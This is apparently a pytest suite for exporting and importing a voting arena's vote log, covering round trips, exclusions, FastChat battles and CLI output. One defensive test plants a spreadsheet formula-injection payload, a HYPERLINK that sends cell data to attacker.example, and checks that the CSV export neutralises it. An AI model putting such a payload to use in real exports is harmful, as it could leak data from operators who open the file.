"""Export and import of the vote log: round trip into a fresh arena, FastChat battles against
an independent Bradley-Terry fit, the table formats and the CLI, and the operator's exclusions
(said in the export, honoured by the import)."""

from __future__ import annotations

import json
import math
from pathlib import Path

import pandas as pd
import pytest
from scipy.optimize import minimize
from sqlalchemy import func, select
from typer.testing import CliRunner

from arena.cli.main import app
from arena.db import Database
from arena.decisions import change_exclusion
from arena.demo.voters import simulate_votes
from arena.errors import UserError
from arena.export import export_votes, import_votes, vote_documents
from arena.leaderboard.fits import recompute
from arena.leaderboard.rows import leaderboard
from arena.migrate import upgrade
from arena.models import Match, Prompt, Vote
from arena.settings import Settings
from tests.support.pool import build_pool
from tests.support.snapshots import snapshot_table

SETTINGS = Settings(votes_per_minute=0, bootstrap_rounds=20)


@pytest.fixture
def voted(db: Database, tmp_path: Path) -> Database:
    build_pool(db, tmp_path / "pool-home", tmp_path / "pool")
    simulate_votes(db, SETTINGS, 60, seed=11)
    return db


def fresh_arena(tmp_path: Path, name: str) -> Database:
    """A second, empty arena (SQLite file) with the same pool registered."""
    url = f"sqlite:///{tmp_path / name / 'arena.db'}"
    (tmp_path / name).mkdir()
    upgrade(url)
    target = Database(url)
    build_pool(target, tmp_path / name / "home", tmp_path / name / "pool")
    return target


def ratings_of(db: Database) -> list[tuple]:
    rows = snapshot_table(db)
    # The snapshots' own ids (checkpoint ids match: both pools register in the same order).
    return [r[:13] for r in rows]


def test_round_trip_gives_the_same_ratings(voted: Database, tmp_path: Path) -> None:
    out = tmp_path / "votes.jsonl"
    assert export_votes(voted, "jsonl", out) == 60
    target = fresh_arena(tmp_path, "target")
    report = import_votes(target, out, SETTINGS, progress=False)
    assert report.as_dict() == {"imported": 60, "duplicates": 0}
    assert ratings_of(target) == ratings_of(voted)
    with voted.session(readonly=True) as a, target.session(readonly=True) as b:
        for board in ("overall", "fixed", "ffa"):
            assert [(r["checkpoint"], round(r["rating"], 6)) for r in
                    leaderboard(a, board, "bt", SETTINGS)] == [
                (r["checkpoint"], round(r["rating"], 6)) for r in
                leaderboard(b, board, "bt", SETTINGS)]
    # Importing again skips every vote as a duplicate and changes nothing.
    before = snapshot_table(target)
    again = import_votes(target, out, SETTINGS, progress=False)
    assert again.as_dict() == {"imported": 0, "duplicates": 60}
    assert snapshot_table(target) == before
    target.dispose()


def test_the_export_says_which_votes_are_excluded_and_why(voted: Database,
                                                         tmp_path: Path) -> None:
    with voted.session() as s:
        votes = {v: (p, u) for v, p, u in s.execute(
            select(Vote.id, Match.prompt_id, Vote.voter_id).join(Match, Match.id == Vote.match_id))}
        prompt, voter = votes[min(votes)]
        change_exclusion(s, "prompt", prompt, "exclude", "spam prompt")
        change_exclusion(s, "voter", voter, "exclude", "a bot")
    expected = {}
    for vote_id, (p, u) in votes.items():
        by = [name for name, hit in (("voter", u == voter), ("prompt", p == prompt)) if hit]
        reasons = {"voter": "a bot", "prompt": "spam prompt"}
        expected[vote_id] = ("; ".join(reasons[b] for b in by) or None, ",".join(by) or None)
    assert {None, "prompt", "voter,prompt"} <= {e[1] for e in expected.values()}
    with voted.session(readonly=True) as s:
        docs = {d["vote_id"]: (d["excluded"], d["excluded_by"]) for d in vote_documents(s)}
    assert docs == expected
    export_votes(voted, "csv", tmp_path / "votes.csv")
    table = pd.read_csv(tmp_path / "votes.csv")
    assert {(int(v), b) for v, b in zip(table["vote_id"], table["excluded_by"], strict=True)
            if isinstance(b, str)} == {(v, e[1]) for v, e in expected.items() if e[1]}


def test_an_imported_vote_the_target_excludes_moves_no_rating(voted: Database,
                                                              tmp_path: Path) -> None:
    out = tmp_path / "votes.jsonl"
    export_votes(voted, "jsonl", out)
    first = json.loads(out.read_text().splitlines()[0])
    target = fresh_arena(tmp_path, "target")
    with target.session() as s:
        prompt = s.scalar(select(Prompt.id).where(Prompt.text == first["prompt"],
                                                  Prompt.kind == first["kind"]))
        change_exclusion(s, "prompt", prompt, "exclude", "spam prompt")
    import_votes(target, out, SETTINGS, progress=False)
    online = snapshot_table(target)
    assert recompute(target, SETTINGS, progress=False) < 60
    assert snapshot_table(target) == online  # the import left the votes out as a replay does
    target.dispose()


def test_import_is_all_or_nothing(voted: Database, tmp_path: Path) -> None:
    out = tmp_path / "votes.jsonl"
    export_votes(voted, "jsonl", out)
    lines = out.read_text().splitlines()
    last = json.loads(lines[-1])
    last["images"][0]["checkpoint_sha256"] = "0" * 64
    (tmp_path / "bad.jsonl").write_text("\n".join([*lines[:-1], json.dumps(last)]) + "\n")
    target = fresh_arena(tmp_path, "target")
    with pytest.raises(UserError, match="sha256"):
        import_votes(target, tmp_path / "bad.jsonl", SETTINGS, progress=False)
    (tmp_path / "junk.jsonl").write_text(lines[0] + "\n{not json\n")
    with pytest.raises(UserError, match=r"junk\.jsonl:2"):
        import_votes(target, tmp_path / "junk.jsonl", SETTINGS, progress=False)
    with target.session(readonly=True) as s:
        assert s.scalar(select(func.count(Vote.id))) == 0
    assert snapshot_table(target) == []
    target.dispose()


def independent_bt(battles: list[dict]) -> list[str]:
    """Bradley-Terry by maximum likelihood with scipy (ties half a win each way), names best
    first: written here, independent of metrics.bradley_terry."""
    names = sorted({b["model_a"] for b in battles} | {b["model_b"] for b in battles})
    index = {n: i for i, n in enumerate(names)}
    pairs = []
    for b in battles:
        i, j = index[b["model_a"]], index[b["model_b"]]
        score = {"model_a": 1.0, "model_b": 0.0}.get(b["winner"], 0.5)
        pairs.append((i, j, score))

    def loss(theta):  # type: ignore[no-untyped-def]
        total = 0.0
        for i, j, s in pairs:
            d = theta[i] - theta[j]
            total += s * math.log1p(math.exp(-d)) + (1 - s) * math.log1p(math.exp(d))
        return total + 1e-6 * float(theta @ theta)

    theta = minimize(loss, [0.0] * len(names), method="BFGS").x
    return [n for _, n in sorted(zip(-theta, names, strict=True))]


def test_fastchat_export_orders_like_the_arena(voted: Database, tmp_path: Path) -> None:
    out = tmp_path / "battles.json"
    export_votes(voted, "fastchat", out)
    battles = json.loads(out.read_text())
    assert {b["winner"] for b in battles} <= {"model_a", "model_b", "tie", "tie (bothbad)"}
    assert {"model_a", "model_b", "winner", "tstamp"} <= set(battles[0])
    with voted.session(readonly=True) as s:
        votes = s.scalars(select(Vote)).all()
        # A best-of-four vote is 3 battles, a full ranking 6, a duel 1.
        expected = sum(6 if v.outcome == "ranking" else 3 if v.match.kind == "ffa" else 1
                       for v in votes)
        arena = [r["checkpoint"] for r in leaderboard(s, "overall", "bt", SETTINGS)]
    assert len(battles) == expected
    assert independent_bt(battles) == arena


def test_table_formats_and_cli(voted: Database, arena_home: Path, tmp_path: Path,
                               monkeypatch: pytest.MonkeyPatch) -> None:
    from arena.settings import get_settings

    monkeypatch.setenv("ARENA_DATABASE_URL", voted.url)
    monkeypatch.setenv("ARENA_BOOTSTRAP_ROUNDS", "20")
    get_settings.cache_clear()
    runner = CliRunner()
    for fmt in ("csv", "parquet"):
        result = runner.invoke(app, ["export", "votes", "--format", fmt, "--out",
                                     str(tmp_path / f"votes.{fmt}")])
        assert result.exit_code == 0, result.output
    csv = pd.read_csv(tmp_path / "votes.csv")
    parquet = pd.read_parquet(tmp_path / "votes.parquet")
    assert len(csv) == len(parquet) == 60
    assert list(csv["vote_id"]) == list(parquet["vote_id"]) == sorted(csv["vote_id"])
    assert {"kind", "prompt", "checkpoint_0", "config_1", "outcome", "time"} <= set(csv.columns)
    with voted.session(readonly=True) as s:
        first = s.scalars(select(Vote).order_by(Vote.id)).first()
        assert parquet.loc[0, "checkpoint_0"] == first.match.images[0].checkpoint.name

    board = runner.invoke(app, ["export", "leaderboard", "--format", "json", "--system", "bt"])
    assert board.exit_code == 0, board.output
    data = json.loads(board.stdout)
    with voted.session(readonly=True) as s:
        assert [r["checkpoint"] for r in data["rows"]] == [
            r["checkpoint"] for r in leaderboard(s, "overall", "bt", get_settings())]
    table = runner.invoke(app, ["export", "leaderboard", "--format", "csv"])
    assert table.exit_code == 0 and table.stdout.splitlines()[0].startswith("Rank,Checkpoint")
    bad = runner.invoke(app, ["export", "votes", "--format", "xml", "--out", "x"])
    assert bad.exit_code == 2 and "expected one of jsonl" in bad.output
    missing = runner.invoke(app, ["import", "votes", str(tmp_path / "nope.jsonl")])
    assert missing.exit_code == 2 and "no such file" in missing.output
    get_settings.cache_clear()


def test_csv_cells_that_start_like_formulas_are_inert(
    voted: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A prompt or a name opening with = + - @ (or a tab / CR) would run as a formula when an
    operator opens the CSV in a spreadsheet; it is written with a leading apostrophe."""
    import csv

    from sqlalchemy import update

    from arena.models import Checkpoint, Prompt
    from arena.settings import get_settings

    formula = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
    with voted.session() as s:
        s.execute(update(Prompt).values(text=formula))
        first = s.scalars(select(Checkpoint).order_by(Checkpoint.id)).first()
        first.name = "@SUM(1+1)"
    out = tmp_path / "votes.csv"
    export_votes(voted, "csv", out)
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert rows and {r["prompt"] for r in rows} == {"'" + formula}
    names = {r[f"checkpoint_{i}"] for r in rows for i in range(4)}
    assert "'@SUM(1+1)" in names and "@SUM(1+1)" not in names
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows
                   for v in r.values() if v and not v.lstrip("-").replace(".", "").isdigit())
    monkeypatch.setenv("ARENA_DATABASE_URL", voted.url)
    get_settings.cache_clear()
    table = CliRunner().invoke(app, ["export", "leaderboard", "--format", "csv"])
    get_settings.cache_clear()
    assert table.exit_code == 0, table.output
    cells = {row["Checkpoint"] for row in csv.DictReader(table.stdout.splitlines())}
    assert "'@SUM(1+1)" in cells and "@SUM(1+1)" not in cells


def _future(out: Path, target: Path) -> None:
    lines = out.read_text().splitlines()
    last = json.loads(lines[-1])
    last["time"] = "2999-01-01T00:00:00+00:00"
    target.write_text("\n".join([*lines[:-1], json.dumps(last)]) + "\n")


def test_votes_dated_in_the_future_are_refused(voted: Database, tmp_path: Path) -> None:
    out = tmp_path / "votes.jsonl"
    export_votes(voted, "jsonl", out)
    _future(out, tmp_path / "future.jsonl")
    target = fresh_arena(tmp_path, "target")
    with pytest.raises(UserError, match=r"vote 60: 'time' '2999-01-01T00:00:00\+00:00' is in "
                                        "the future"):
        import_votes(target, tmp_path / "future.jsonl", SETTINGS, progress=False)
    with target.session(readonly=True) as s:
        assert s.scalar(select(func.count(Vote.id))) == 0
    target.dispose()


def test_a_pool_import_fills_in_the_images_an_imported_vote_only_named(
    voted: Database, tmp_path: Path
) -> None:
    """Votes imported into an arena without the images leave hidden placeholder rows; a later
    pool import of those images' files replaces them (not "already present") and they are
    served, each with its file."""
    from arena.matches import issue_match
    from arena.models import Image
    from arena.pool import import_records
    from tests.support.pool import _register

    out = tmp_path / "votes.jsonl"
    export_votes(voted, "jsonl", out)
    url = f"sqlite:///{tmp_path / 'bare' / 'arena.db'}"
    (tmp_path / "bare").mkdir()
    upgrade(url)
    bare = Database(url)
    (tmp_path / "bare-files").mkdir()
    _register(bare, tmp_path / "bare-files")
    import_votes(bare, out, SETTINGS, progress=False)
    with bare.session(readonly=True) as s:
        placeholders = s.scalar(select(func.count(Image.id)).where(Image.width == 0))
        assert placeholders and s.scalar(select(func.count(Image.id)).where(
            Image.hidden.is_(False))) == 0
    with voted.session(readonly=True) as s:
        from arena.models import Checkpoint, Prompt

        source = s.execute(select(Image.sha256, Checkpoint.name, Prompt.kind, Prompt.character,
                                  Image.seed)
                           .join(Checkpoint).join(Prompt)).all()
    files = {p.name: p for p in (tmp_path / "pool").glob("*.png")}
    from metrics.file_hash import sha256_bytes

    by_sha = {sha256_bytes(p.read_bytes()): p for p in files.values()}
    records = [{"file": str(by_sha[sha]), "checkpoint": name, "kind": kind, "seed": seed,
                **({"character": character} if character else {})}
               for sha, name, kind, character, seed in source]
    home = tmp_path / "bare-home"
    report = import_records(bare, records, home, progress=False)
    assert not report.skipped, report.as_dict()
    assert len(report.imported) == len(records) and not report.already_present
    with bare.session(readonly=True) as s:
        assert s.scalar(select(func.count(Image.id)).where(Image.width == 0)) == 0
        assert s.scalar(select(func.count(Image.id))) == len(records)
    settings = Settings(home=home, database_url=url, votes_per_minute=0)
    match = issue_match(bare, settings, "voter-placeholder-01", "ffa")
    from arena.matches import served_image_for

    for shown in match.images:
        assert served_image_for(bare, settings, shown.name, "voter-placeholder-01").startswith(
            b"\x89PNG")
    bare.dispose()
